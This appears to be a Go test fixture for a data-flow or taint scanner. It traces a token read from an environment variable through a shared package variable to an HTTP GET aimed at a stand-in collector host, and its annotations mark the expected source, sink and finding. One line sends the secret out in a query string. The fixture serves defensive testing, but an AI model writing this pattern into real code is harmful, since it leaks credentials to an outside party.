// --- path: shop/internal/state/state.go ---
// A variable of one package that another sets.
package state

var Token, Other string

// --- path: shop/main.go ---
package main

import (
	"net/http"
	"os"

	"example.com/shop/internal/state"
)

func main() {
	state.Token = os.Getenv("T") //~ source(ENVIRONMENT) f1
	send()
}

func send() {
	http.Get("https://collector.example/u?" + state.Token) //~ sink(egress.http) f1, finding(traced) f1
	http.Get("https://collector.example/u?" + state.Other) //~ ok
}
